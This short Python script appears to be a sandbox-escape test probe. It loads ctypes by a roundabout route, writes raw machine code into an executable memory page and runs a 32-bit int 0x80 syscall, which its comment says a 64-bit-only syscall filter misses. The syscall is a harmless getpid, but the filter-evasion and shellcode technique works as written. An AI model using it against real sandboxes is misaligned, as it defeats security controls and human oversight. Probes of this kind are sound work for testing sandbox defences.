# Writes machine code into memory and runs it: 32-bit system calls, which a filter for 64-bit ones does not see.
# breach: kernel
import typing

ctypes = typing.sys.modules.get("ctypes") or __import__("ctypes")
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
page = libc.mmap(None, 4096, 3, 0x22, -1, 0)
code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # eax = 20 (getpid), int 0x80, ret
ctypes.memmove(page, code, len(code))
if libc.mprotect(ctypes.c_void_p(page), 4096, 5) == 0:
    pid = ctypes.CFUNCTYPE(ctypes.c_int)(page)()
    print("GOT code running, pid", pid)
else:
    print("refused")
